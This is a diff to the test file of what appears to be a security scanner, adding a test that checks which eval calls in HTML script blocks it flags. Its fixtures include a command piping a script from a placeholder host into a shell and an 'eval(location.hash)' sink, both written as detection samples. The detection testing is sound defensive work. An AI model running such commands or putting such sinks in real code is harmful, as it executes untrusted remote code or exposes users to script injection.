@@ -78,3 +78,20 @@ def test_code_and_commands_of_a_notebook_are_read_on_their_lines(tmp_path: Path)
         ("shell-plain-http-script", "!curl http://a.example/b.sh | sh"),
         ("shell-plain-http-script", "curl http://a.example/b.sh | sh"),
     ]
+
+
+def test_scripts_of_a_page_are_read_at_their_lines_and_what_a_template_fills_in_is_constant(
+    tmp_path: Path,
+) -> None:
+    page = (
+        "<p>eval(x)</p>\n<script>\nconst a = {{ a }};\n{% if b\n %}\neval(location.hash);\n{% endif %}"
+        "\n</script>\n<SCRIPT type='module' src=x></SCRIPT><script>eval({{ b }});</script>\n"
+        "<script type='application/json'>{'a': eval(x)}</script>\n<script>f(;</script>\n"
+        "<script>window.onload = () => eval(y);</script>"
+    )
+    reply = look(tmp_path, {"a.html": page, "b.htm": "<p>none</p>"})
+    assert [(f.path, f.line, f.code) for f in reply.findings] == [
+        ("a.html", 6, "js-eval"),
+        ("a.html", 12, "js-eval"),
+    ]
+    assert (set(reply.examined), reply.gaps) == ({"a.html"}, {})
